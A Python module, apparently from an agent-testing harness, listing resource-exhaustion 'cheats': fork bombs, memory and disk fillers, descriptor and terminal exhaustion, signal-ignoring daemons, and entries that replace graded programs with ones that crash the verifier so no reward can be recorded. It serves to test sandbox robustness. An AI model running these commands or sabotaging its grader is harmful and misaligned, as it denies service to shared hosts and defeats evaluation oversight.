"""Cheats that use up what the host shares: processes, memory, disk, terminals, patience."""

from __future__ import annotations

from terminal_gym.cheats.cheat import Cheat


def _for_each_program(copy: str) -> str:
    """Copy /tmp/tool over every graded script and program."""
    return (
        f'chmod 755 /tmp/tool; find "${{STATE[@]}}" -type f ! -path "*/.git/*" \\( -perm /111 '
        f'-o -name "*.py" -o -name "*.sh" \\) -exec {copy} {{}} \\; 2>/dev/null'
    )


CHEATS = [
    Cheat(
        name="fork-bomb",
        description="starts processes without end",
        commands=(
            "bomb() { bomb | bomb & }; (bomb) 2>/dev/null",
            "for i in {1..2000}; do sleep 1000 & done 2>/dev/null",
            "sleep 1; echo $?",
        ),
        step_timeout_s=3,
    ),
    Cheat(
        name="memory-bomb",
        description="takes memory without end, in several processes",
        commands=(
            "for i in 1 2 3; do (tail -c 1T /dev/zero | cat > /dev/null) & done 2>/dev/null",
            "python3 -c 'x = []\nwhile True: x.append(bytearray(1 << 26))' 2>&1 | tail -1",
            "head -c 8G /dev/zero | tail | wc -c",
        ),
        step_timeout_s=1.5,
    ),
    Cheat(
        name="disk-fill",
        description="fills the disk, the graded folders first",
        commands=(
            'cd "$STATE" 2>/dev/null; cat /dev/zero > ./fill 2>/dev/null; ls -l ./fill',
            "cat /dev/zero > /tmp/fill; cat /dev/zero > /dev/shm/fill; echo x > /tmp/y; df /",
        ),
        step_timeout_s=60,
    ),
    Cheat(
        name="inode-fill",
        description="makes files until there can be no more",
        commands=(
            "mkdir -p /tmp/i && cd /tmp/i && python3 -c 'import os\nfor i in range(10**6): "
            "os.mknod(str(i))' 2>&1 | tail -1",
            "df -i / | tail -1; cd /; touch /tmp/one-more",
        ),
        step_timeout_s=60,
    ),
    Cheat(
        name="output-flood",
        description="prints without end, in the foreground and in the background",
        commands=(
            'timeout 0.2 yes "$TOKEN"',
            "head -c 1M /dev/urandom",
            "(trap '' HUP; yes \"$TOKEN\" &) ; sleep 0.3",
            "printf 'x%.0s' {1..100000}; printf '\\e]0;%0100000d' 1",
        ),
        step_timeout_s=0.1,  # it never ends, and each step of the way out lasts as long
    ),
    Cheat(
        name="descriptor-bomb",
        description="opens files, pipes and sockets without end",
        commands=(
            "python3 -c 'import os, socket, time\nk = []\ntry:\n while True: "
            'k += [*os.pipe(), socket.socket(), os.open("/dev/null", 0)]\nexcept OSError as e: '
            "print(len(k), e)\ntime.sleep(1)'",
        ),
    ),
    Cheat(
        name="terminal-bomb",
        description="opens pseudo-terminals until the kernel has no more for anybody",
        commands=(
            "for i in 1 2 3 4; do python3 -c 'import os, resource, time\nresource.setrlimit("
            "resource.RLIMIT_NOFILE, (resource.getrlimit(7)[1],) * 2)\nk = []\ntry:\n while True: "
            'k.append(os.open("/dev/ptmx", 2))\nexcept OSError as e: print(len(k), e)\n'
            "time.sleep(1000)' & done; sleep 1.5",
        ),
    ),
    Cheat(
        name="shared-memory",
        description="leaves System V and POSIX shared memory behind",
        commands=(
            "head -c 1G /dev/zero > /dev/shm/$TOKEN; ipcmk -M 100M; ipcmk -Q; ipcmk -S 10; ipcs -m",
        ),
    ),
    Cheat(
        name="busy-daemons",
        description="leaves processes that spin and ignore every signal that can be ignored",
        commands=(
            "for i in {1..20}; do (trap '' HUP INT TERM QUIT TSTP; exec -a $TOKEN setsid "
            "bash -c 'trap \"\" HUP INT TERM QUIT; while :; do :; done' $TOKEN &); done",
        ),
    ),
    Cheat(
        name="program-fills-disk",
        description="makes graded programs fill the verifier's disk, so that no reward fits on it",
        commands=(
            "printf '#!/bin/sh\\ncd /tmp; i=0; while head -c 60M /dev/zero > fill$i; do "
            "i=$((i+1)); done; cat /dev/zero > /dev/shm/fill\\n' > /tmp/tool",
            _for_each_program("cp -p /tmp/tool"),
        ),
    ),
    Cheat(
        name="program-eats-memory",
        description="makes graded programs take the verifier's memory, in several processes",
        commands=(
            "printf '#!/usr/bin/python3\\nimport os\\nfor _ in range(2): os.fork()\\nx = []\\n"
            "try:\\n while True: x.append(bytearray(1 << 24))\\nexcept MemoryError: pass\\n' "
            "> /tmp/tool",
            _for_each_program("cp -p /tmp/tool"),
        ),
    ),
    Cheat(
        name="program-forks",
        description="makes graded programs leave as many processes as the verifier may have",
        commands=(
            "printf '#!/usr/bin/python3\\nimport os, time\\ntry:\\n while os.fork(): pass\\n "
            "time.sleep(1000)\\nexcept OSError: pass\\n' > /tmp/tool",
            _for_each_program("cp -p /tmp/tool"),
        ),
    ),
]
